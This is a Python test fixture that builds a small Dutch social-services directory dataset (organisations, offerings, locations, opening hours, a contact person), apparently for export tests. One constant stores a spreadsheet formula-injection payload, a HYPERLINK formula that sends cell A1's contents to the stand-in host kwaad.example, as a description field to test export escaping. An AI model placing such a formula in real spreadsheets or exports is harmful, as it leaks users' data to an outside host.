"""A small sociale kaart with something of every kind an export writes: two organisations
with aanbod and vestigingen, opening hours (one with an end date), coordinates, a contact
person, languages, terms from both taxonomies, werkgebieden, a stated capacity, and text
that a spreadsheet would take for a formula."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime, time

from sociale_kaart.models import (
    Aanbod,
    AanbodOpVestiging,
    Contactpersoon,
    Organisatie,
    Vestiging,
    VestigingOpeningsregel,
)
from tests.sociale_kaart.factories import AanbodFactory, DoelgroepFactory, OrganisatieFactory

FORMULE = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik hier")'


@dataclass
class Kaart:
    figulus: Organisatie
    mantelzorg: Aanbod
    schuldhulp: Aanbod
    buurthuis: Vestiging


def kleine_kaart(levensdomeinen) -> Kaart:
    domein = {d.slug: d for d in levensdomeinen}
    figulus = OrganisatieFactory(
        naam="Figulus Welzijn", slug="figulus-welzijn", kvk_nummer="12345678",
        website="https://figulus.example.org/", laatst_gecontroleerd=date(2026, 9, 1),
    )  # fmt: skip
    mantelzorg = AanbodFactory(
        organisatie=figulus, naam="Mantelzorgondersteuning", slug="mantelzorgondersteuning",
        email="mantelzorg@figulus.example.org", telefoon="0543-000010", talen=["nld", "eng"],
        leeftijd_van=18, kosten="gratis", aanmelden="zelf", kosten_toelichting="Gratis.",
        aanmelden_toelichting="Bel ons.", zoekwoorden="mantelzorger, respijt",
        werkgebied="kernen", werkgebied_kernen=["aalten", "bredevoort"], capaciteit="wachtlijst",
        wachtlijst_weken=6, capaciteit_doorgegeven_op=datetime(2026, 11, 3, 9, 15, 0, 123000, tzinfo=UTC),
    )  # fmt: skip
    mantelzorg.levensdomeinen.add(domein["zorg"])
    mantelzorg.doelgroepen.add(DoelgroepFactory(slug="mantelzorgers", naam="Mantelzorgers"))
    huis = Vestiging.objects.create(
        organisatie=figulus, naam="Huis van de Kern", straat="Hofstraat", huisnummer="11",
        postcode="7121 DL", plaats="Aalten", kern="aalten", toegankelijkheid="Drempelvrij.",
        route="Bus 80.", latitude="51.925100", longitude="6.580600",
    )  # fmt: skip
    koppeling = AanbodOpVestiging.objects.create(
        aanbod=mantelzorg, vestiging=huis, toelichting="Op afspraak"
    )
    VestigingOpeningsregel.objects.create(
        aanbod_op_vestiging=koppeling, weekdag=1, dagdeel="ochtend", start=time(9), einde=time(12)
    )
    VestigingOpeningsregel.objects.create(
        aanbod_op_vestiging=koppeling, weekdag=3, dagdeel="middag", start=time(13, 30),
        einde=time(16), geldig_tot=date(2027, 6, 30),
    )  # fmt: skip
    Contactpersoon.objects.create(
        organisatie=figulus, aanbod=mantelzorg, naam="Anja", functie="consulent",
        telefoon="0543-000011",
    )  # fmt: skip

    gemeente = OrganisatieFactory(naam="Gemeente Aalten", slug="gemeente-aalten", telefoon="")
    schuldhulp = AanbodFactory(
        organisatie=gemeente, naam="Schuldhulpverlening", slug="schuldhulpverlening",
        korte_beschrijving="- hulp bij schulden, - een plan", beschrijving=FORMULE,
        kosten="gratis", aanmelden="toegang", zoekwoorden="geldzorgen, schulden",
        werkgebied="gemeente", aan_huis=True,
    )  # fmt: skip
    schuldhulp.levensdomeinen.add(domein["werk-en-inkomen"])
    buurthuis = Vestiging.objects.create(
        organisatie=gemeente, naam="Buurthuis De Kei", straat="Kerkstraat", huisnummer="3a",
        postcode="7091 CA", plaats="Dinxperlo", kern="dinxperlo",
    )  # fmt: skip
    inloop = AanbodOpVestiging.objects.create(aanbod=schuldhulp, vestiging=buurthuis)
    VestigingOpeningsregel.objects.create(
        aanbod_op_vestiging=inloop, weekdag=0, dagdeel="middag", start=time(13), einde=time(15)
    )
    return Kaart(figulus, mantelzorg, schuldhulp, buurthuis)


def alles_wissen() -> None:
    """Every aanbod, vestiging and organisation (the taxonomies stay)."""
    Aanbod.objects.all().delete()
    Vestiging.objects.all().delete()
    Organisatie.objects.all().delete()
